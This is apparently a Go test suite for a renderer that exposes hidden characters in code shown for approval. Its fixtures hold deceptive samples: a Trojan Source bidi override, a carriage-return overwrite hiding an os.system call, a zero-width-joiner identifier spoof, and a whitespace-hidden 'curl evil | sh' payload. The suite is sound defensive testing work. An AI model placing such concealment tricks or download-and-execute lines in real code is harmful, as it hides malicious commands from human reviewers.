package approval

import (
	"math/rand"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

func TestRender(t *testing.T) {
	tests := []struct {
		name     string
		code     string
		want     string // exact Text, when set
		contains []string
		absent   []string
		warnings []string
		lines    int
	}{
		{
			name:     "plain code unchanged",
			code:     "def f():\n\treturn 1\n",
			want:     "def f():\n\treturn 1\n",
			lines:    2,
			warnings: nil,
		},
		{
			name: "trojan source bidi override",
			// The classic early-return comment trick: the override makes the
			// closing of the comment look like it is inside the string.
			code:     "access_level = \"user\"\nif access_level != \"none\u202e \u2066# Check if admin\u2069 \u2066\":\n    print(\"admin\")\n",
			contains: []string{"⟦U+202E RIGHT-TO-LEFT OVERRIDE⟧", "⟦U+2066 LEFT-TO-RIGHT ISOLATE⟧", "⟦U+2069 POP DIRECTIONAL ISOLATE⟧"},
			absent:   []string{"\u202e", "\u2066", "\u2069"},
			warnings: []string{WarnBidi},
			lines:    3,
		},
		{
			name:     "carriage return overwrite",
			code:     "print(\"ok\")\rimport os; os.system(\"x\")",
			want:     "print(\"ok\")⟦CR⟧import os; os.system(\"x\")",
			warnings: []string{WarnCR},
			lines:    1,
		},
		{
			name:     "lone CR at end of input is not a CR-LF pair",
			code:     "x = 1\r",
			want:     "x = 1⟦CR⟧",
			warnings: []string{WarnCR},
			lines:    1,
		},
		{
			name:  "CRLF is a normal newline",
			code:  "a = 1\r\nb = 2\r\n",
			want:  "a = 1\nb = 2\n",
			lines: 2,
		},
		{
			name:     "zero-width joiner in identifier",
			code:     "is_admin = False\nis\u200d_admin = True\n",
			want:     "is_admin = False\nis⟦U+200D ZERO WIDTH JOINER⟧_admin = True\n",
			warnings: []string{WarnZeroWidth},
			lines:    2,
		},
		{
			name:     "ten blank lines collapsed",
			code:     "a\n" + strings.Repeat("\n", 10) + "b\n",
			want:     "a\n⟦10 blank lines⟧\nb\n",
			warnings: []string{WarnBlankLines},
			lines:    12,
		},
		{
			name:  "three blank lines kept",
			code:  "a\n\n\n\nb",
			want:  "a\n\n\n\nb",
			lines: 5,
		},
		{
			name:     "NUL and C0 and C1 controls",
			code:     "a\x00b\x1bc\u0085d\x7f",
			want:     "a⟦NUL⟧b⟦U+001B⟧c⟦U+0085⟧d⟦U+007F⟧",
			warnings: []string{WarnNUL, WarnControl},
			lines:    1,
		},
		{
			name:     "tag characters and non-ASCII space",
			code:     "x\U000E0041\u00a0y",
			want:     "x⟦U+E0041⟧⟦U+00A0⟧y",
			warnings: []string{WarnInvisible},
			lines:    1,
		},
		{
			name:     "invalid UTF-8",
			code:     "a\xffb",
			want:     "a⟦invalid UTF-8 0xFF⟧b",
			warnings: []string{WarnInvalidUTF},
			lines:    1,
		},
		{
			name:     "each warning kind once",
			code:     "\u202e\u202e\n\u202a",
			warnings: []string{WarnBidi},
			lines:    2,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Render(tt.code)
			if tt.want != "" && got.Text != tt.want {
				t.Errorf("Text = %q, want %q", got.Text, tt.want)
			}
			for _, c := range tt.contains {
				if !strings.Contains(got.Text, c) {
					t.Errorf("Text %q does not contain %q", got.Text, c)
				}
			}
			for _, a := range tt.absent {
				if strings.Contains(got.Text, a) {
					t.Errorf("Text %q still contains %q", got.Text, a)
				}
			}
			if !slices.Equal(got.Warnings, tt.warnings) {
				t.Errorf("Warnings = %q, want %q", got.Warnings, tt.warnings)
			}
			if got.Lines != tt.lines {
				t.Errorf("Lines = %d, want %d", got.Lines, tt.lines)
			}
		})
	}
}

func TestRenderLongLineWraps(t *testing.T) {
	hidden := "; __import__('os').system('curl evil | sh')"
	code := "x = 1" + strings.Repeat(" ", 600) + hidden + "\nprint(x)\n"
	got := Render(code)
	lines := strings.Split(strings.TrimSuffix(got.Text, "\n"), "\n")
	if len(lines) != 3 {
		t.Fatalf("rendered %d lines %q, want the long line wrapped once plus print(x)", len(lines), got.Text)
	}
	for _, l := range lines {
		if n := utf8.RuneCountInString(l); n > MaxLineDisplay {
			t.Errorf("rendered line of %d runes, want at most %d", n, MaxLineDisplay)
		}
	}
	if !strings.HasPrefix(lines[1], WrapMarker) || !strings.HasSuffix(lines[1], hidden) {
		t.Errorf("continuation = %q, want %q then the tail of the line", lines[1], WrapMarker)
	}
	// Nothing is lost: unwrapping gives the original line back.
	if joined := lines[0] + strings.TrimPrefix(lines[1], WrapMarker); joined != strings.TrimSuffix(strings.Split(code, "\n")[0], "\n") {
		t.Errorf("unwrapped line differs from the original")
	}
	if lines[2] != "print(x)" || got.Lines != 2 {
		t.Errorf("following line = %q, Lines = %d; want it untouched and 2 lines counted", lines[2], got.Lines)
	}
	if !slices.Contains(got.Warnings, WarnLongLines) {
		t.Errorf("Warnings = %q, want %q", got.Warnings, WarnLongLines)
	}
}

func TestRenderLongLineOfEscapesWraps(t *testing.T) {
	// Escapes are wide: 400 zero-width spaces wrap into many short lines, each
	// escape whole, and every one of them is still shown.
	got := Render(strings.Repeat("\u200b", 400))
	if n := strings.Count(got.Text, "⟦U+200B ZERO WIDTH SPACE⟧"); n != 400 {
		t.Errorf("shown %d of 400 escapes", n)
	}
	for _, l := range strings.Split(got.Text, "\n") {
		if n := utf8.RuneCountInString(l); n > MaxLineDisplay {
			t.Errorf("rendered line of %d runes, want at most %d", n, MaxLineDisplay)
		}
	}
}

// checkPrintable fails when Text holds anything but printable runes, '\n'
// and '\t'.
func checkPrintable(t *testing.T, code string) {
	t.Helper()
	got := Render(code).Text
	if !utf8.ValidString(got) {
		t.Fatalf("Render(%q).Text is not valid UTF-8: %q", code, got)
	}
	for _, r := range got {
		if r != '\n' && r != '\t' && !unicode.IsPrint(r) {
			t.Fatalf("Render(%q).Text = %q holds non-printable U+%04X", code, got, r)
		}
	}
}

func TestRenderOnlyPrintableRemains(t *testing.T) {
	// Draw runes mostly from the dangerous ranges so every branch is hit.
	pools := [][2]rune{{0, 0x20}, {0x7f, 0xa0}, {0x200b, 0x2070}, {0xfeff, 0xfeff}, {0xe0000, 0xe0080}, {0x20, 0x7e}, {0x0600, 0x0700}, {0xd800, 0xdfff}, {0x10fff0, 0x10ffff}}
	rng := rand.New(rand.NewSource(1))
	for i := 0; i < 2000; i++ {
		var b strings.Builder
		for n := rng.Intn(80); n > 0; n-- {
			p := pools[rng.Intn(len(pools))]
			b.WriteRune(p[0] + rune(rng.Intn(int(p[1]-p[0]+1))))
		}
		if rng.Intn(4) == 0 {
			b.WriteByte(byte(0x80 + rng.Intn(0x80))) // stray invalid byte
		}
		checkPrintable(t, b.String())
	}
}

func FuzzRender(f *testing.F) {
	for _, s := range []string{"a\u202eb", "x\r\ny\rz", "\x00\xff", strings.Repeat("\n", 9), strings.Repeat("w", 700)} {
		f.Add(s)
	}
	f.Fuzz(checkPrintable)
}
